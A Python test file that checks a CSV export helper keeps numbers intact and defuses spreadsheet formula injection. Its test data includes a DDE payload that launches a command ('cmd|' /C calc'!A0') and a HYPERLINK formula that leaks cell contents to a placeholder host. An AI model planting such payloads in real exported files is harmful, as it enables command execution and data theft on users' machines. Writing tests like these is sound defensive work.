"""Cells of CSV files: numbers stay numbers, and no text is computed."""

import csv
import re
import unicodedata
from decimal import Decimal
from enum import Enum, IntEnum
from io import StringIO

from hypothesis import example, given
from hypothesis import strategies as st
from tests.unit.effort import examples

from entrypoints.http.kit.csv_cells import csv_lines

_BEGINS = tuple("=+-@\u2212")
"""What begins a formula, after fullwidth and small forms were folded."""
_PIECES = (
    *"=+-@\uff1d\uff0b\uff0d\uff20\ufe62\ufe63\ufe66\ufe6b\u2212",
    *" \t\r\n\v\f\x00\x1c\x85\xa0\xad\u200b\u2028\u202e\u2060\ufeff;,'\"",
    *("SUM(A1)", "1", "50000.00", "cmd|' /C calc'!A0", "Болд", "a"),
)
NUMBERS = (
    st.integers()
    | st.decimals(allow_nan=False, allow_infinity=False)
    | st.floats(allow_nan=False, allow_infinity=False)
)
TEXTS = st.lists(st.sampled_from(_PIECES), max_size=6).map("".join) | st.text(max_size=8)


def read(file: bytes) -> list[list[str]]:
    return list(csv.reader(StringIO(file.decode(), newline="")))


def trimmed(text: str) -> str:
    """The text without what a spreadsheet skips at the start: spaces, control characters, invisible characters."""
    folded = unicodedata.normalize("NFKC", text)
    return re.sub(r"^[\s\x00-\x1f\x7f-\x9f\xad\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u206f\ufeff]+", "", folded)


def runs(cell: str) -> bool:
    """Whether some spreadsheet computes the cell, or a part at which its locale splits it."""
    parts = re.split(r"[;\t\n\v\f\r\x1c-\x1e\x85\u2028\u2029]", cell)
    return unicodedata.category(cell[:1] or " ") == "Cc" or any(trimmed(part).startswith(_BEGINS) for part in parts)


@examples(100)
@example(Decimal("-50000.00"))
@example(Decimal("1E+3"))
@example(-5)
@example(-1e-07)
@given(NUMBERS)
def test_any_number_stays_a_number(number: float | Decimal) -> None:
    [[cell]] = read(csv_lines([[number]]))
    assert re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell)
    assert type(number)(cell) == number


@examples(300)
@example('=HYPERLINK("http://x?"&A1)')
@example("-50000.00")
@example("\ufeff =1")
@example("ж;=1")
@given(TEXTS)
def test_a_text_that_a_spreadsheet_would_run_is_defused_and_any_other_is_kept(text: str) -> None:
    [[_, cell]] = read(csv_lines([["", text]]))
    assert not runs(cell)
    assert cell.replace("'", "") == text.replace("'", "")
    assert runs(text) or cell == text


class _Count(IntEnum):
    TWO = 2


class _Word(Enum):
    HOSTILE = "=1+1"


def test_each_kind_of_value_has_its_cell() -> None:
    row = (None, True, False, _Count.TWO, _Word.HOSTILE, -5, "- five")
    assert csv_lines([row]) == b",yes,no,2,'=1+1,-5,'- five\r\n"
